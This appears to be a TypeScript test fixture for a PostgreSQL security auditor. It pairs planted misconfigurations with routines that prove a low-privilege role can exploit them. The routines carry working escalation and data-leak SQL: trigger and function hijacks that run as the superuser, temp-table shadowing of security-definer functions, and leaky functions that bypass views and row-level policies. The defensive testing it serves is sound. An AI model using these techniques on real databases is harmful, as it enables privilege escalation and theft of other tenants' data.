import { can, gotCreatedb, TAKE, value, type Plant } from './planted.ts';

/** Routines, triggers, views, policies: whose code runs as whom, and whose rows are seen. */
export const CODE: readonly Plant[] = [
  {
    id: 'trigger-privilege',
    plant: ['grant trigger on app.users to mallory', 'grant temporary on database planted to mallory'],
    object: 'mallory: trigger on table app.users',
    attack: async (people) => {
      const { mallory, superuser } = people;
      await mallory
        .query(
          `create or replace function pg_temp.fire() returns trigger language plpgsql as $$ begin ${TAKE} return new; end $$;
           create or replace trigger fire before update on app.users for each row execute function pg_temp.fire()`,
        )
        .catch(() => {});
      await superuser.query('update app.users set nick = nick');
      await superuser.query('drop trigger if exists fire on app.users');
      return gotCreatedb(people);
    },
  },
  {
    id: 'routine-owner-reached',
    plant: [
      'create schema tools',
      'grant usage, create on schema tools to mallory',
      'create function tools.version() returns int language sql as $$ select 1 $$',
      'alter function tools.version() owner to mallory',
    ],
    object: 'function tools.version()',
    way: 'mallory logs in with it',
    attack: async (people) => {
      const { mallory, superuser } = people;
      await mallory
        .query(`create or replace function tools.version() returns int language plpgsql as $$ begin ${TAKE} return 2; end $$`)
        .catch(() => {});
      await superuser.query('select tools.version()');
      await superuser.query('create or replace function tools.version() returns int language sql as $$ select 1 $$');
      return gotCreatedb(people);
    },
  },
  {
    id: 'event-trigger-function-owner',
    plant: [
      'create schema tools',
      'grant usage, create on schema tools to mallory',
      'create function tools.watch() returns event_trigger language plpgsql as $$ begin end $$',
      'alter function tools.watch() owner to mallory',
      'create event trigger watch on ddl_command_start execute function tools.watch()',
    ],
    object: 'watch',
    attack: async (people) => {
      const { mallory, superuser } = people;
      // The trigger fires for what it does itself, too.
      const body = `begin if current_setting('test.fired', true) is null then perform set_config('test.fired', '1', false); ${TAKE} end if; end`;
      await mallory
        .query(`create or replace function tools.watch() returns event_trigger language plpgsql as $$ ${body} $$`)
        .catch(() => {});
      await superuser.query('create table app.made_by_superuser (); drop table app.made_by_superuser');
      return gotCreatedb(people);
    },
  },
  ...(['', ' set search_path = app', ' set search_path = pg_catalog, app'] as const).map((path): Plant => ({
    id: path === '' ? 'definer-without-search-path' : 'definer-temp-schema-first',
    how: path,
    plant: [
      'create table app.admins (nick text)',
      `create function app.is_admin(text) returns boolean language plpgsql security definer${path}
         as 'begin return exists (select from admins where nick = $1); end'`,
      'alter table app.admins owner to app_owner',
      'alter function app.is_admin(text) owner to app_owner',
      'grant temporary on database planted to mallory',
    ],
    object: 'function app.is_admin(text)',
    way: 'everybody who logs in: now',
    attack: async ({ reconnect }) => {
      const mallory = await reconnect();
      await mallory.query(`create temporary table admins as select 'mallory' as nick; grant select on admins to public`);
      return (await value(mallory, `select app.is_admin('mallory')`)) === true;
    },
  })),
  {
    id: 'view-over-row-security',
    plant: [
      'alter table app.orders enable row level security',
      'create policy own on app.orders using (tenant = 1)',
      'create view app.all_orders as select * from app.orders',
      'alter view app.all_orders owner to app_owner',
      'grant select on app.orders, app.all_orders to mallory',
    ],
    object: 'app.all_orders',
    attack: async ({ mallory }) => (await value(mallory, 'select count(*)::int from app.all_orders')) === 2,
  },
  {
    id: 'view-over-row-security',
    how: 'a materialized one',
    plant: [
      'alter table app.orders enable row level security',
      'create policy own on app.orders using (tenant = 1)',
      'create materialized view app.kept as select * from app.orders',
      'alter materialized view app.kept owner to app_owner',
      'grant select on app.kept to mallory',
    ],
    object: 'app.kept',
    attack: async ({ mallory }) => (await value(mallory, 'select count(*)::int from app.kept')) === 2,
  },
  {
    id: 'view-as-filter',
    plant: [
      'create view app.shown as select tenant, amount from app.orders where tenant <> 2',
      'alter view app.shown owner to app_owner',
      'grant select on app.shown to mallory',
      'grant temporary on database planted to mallory',
    ],
    object: 'app.shown',
    attack: async ({ reconnect }) => {
      const mallory = await reconnect();
      const heard: string[] = [];
      mallory.on('notice', ({ message }) => heard.push(message ?? ''));
      await mallory.query(
        `create function pg_temp.leak(int) returns boolean language plpgsql cost 0.0000001
         as $$ begin raise notice '%', $1; return true; end $$`,
      );
      await mallory.query('select from app.shown where pg_temp.leak(amount)');
      return heard.includes('20');
    },
  },
  {
    id: 'policy-by-setting',
    plant: [
      'alter table app.orders enable row level security',
      `create policy own on app.orders using (tenant = nullif(current_setting('app.tenant', true), '')::int)`,
      'grant select on app.orders to mallory',
    ],
    object: 'policies that ask current_setting()',
    attack: ({ mallory }) => can(mallory, `set local app.tenant = '2'`, 'select 1 / count(*) from app.orders where tenant = 2'),
    fixable: false,
  },
  {
    id: 'truncate-with-row-security',
    plant: [
      'alter table app.orders enable row level security',
      'create policy own on app.orders using (tenant = 1)',
      'grant truncate on app.orders to mallory',
    ],
    object: 'mallory: truncate on table app.orders',
    attack: ({ mallory }) => can(mallory, 'truncate app.orders'),
  },
  {
    id: 'partition-granted',
    plant: [
      'create table app.events (tenant int) partition by list (tenant)',
      'create table app.events_2 partition of app.events for values in (2)',
      'insert into app.events values (2)',
      'alter table app.events enable row level security',
      'create policy own on app.events using (tenant = 1)',
      'alter table app.events owner to app_owner',
      'alter table app.events_2 owner to app_owner',
      'grant select on app.events, app.events_2 to mallory',
    ],
    object: 'mallory: select on table app.events_2',
    attack: async ({ mallory }) => (await value(mallory, 'select count(*)::int from app.events_2')) === 1,
  },
  {
    id: 'restrictive-policy-not-inherited',
    plant: [
      'alter table app.orders enable row level security',
      'create policy everyone on app.orders using (amount > 0)',
      'create policy first on app.orders as restrictive to grp using (tenant = 1)',
      'grant select on app.orders to mallory',
      'grant grp to mallory with inherit false',
    ],
    object: 'first on app.orders',
    attack: async ({ mallory }) => (await value(mallory, 'select count(*)::int from app.orders')) === 2,
  },
  {
    id: 'row-security-not-forced',
    plant: [
      'alter table app.orders enable row level security',
      'create policy own on app.orders using (tenant = 1)',
      'grant app_owner to mallory with set false',
    ],
    object: 'app.orders',
    attack: async ({ mallory }) => (await value(mallory, 'select count(*)::int from app.orders')) === 2,
  },
  {
    id: 'policies-switched-off',
    plant: ['create policy own on app.orders using (tenant = 1)', 'grant select on app.orders to mallory'],
    object: 'app.orders',
    attack: async ({ mallory }) => (await value(mallory, 'select count(*)::int from app.orders')) === 2,
  },
  {
    id: 'row-security-without-policy',
    plant: ['alter table app.orders enable row level security', 'grant select on app.orders to mallory'],
    object: 'app.orders',
    fixable: false,
  },
  {
    id: 'policy-always-true',
    plant: [
      'alter table app.orders enable row level security',
      'create policy own on app.orders using (tenant = 1)',
      'create policy debugging on app.orders using (true)',
      'grant select on app.orders to mallory',
    ],
    object: 'app.orders',
    attack: async ({ mallory }) => (await value(mallory, 'select count(*)::int from app.orders')) === 2,
  },
];
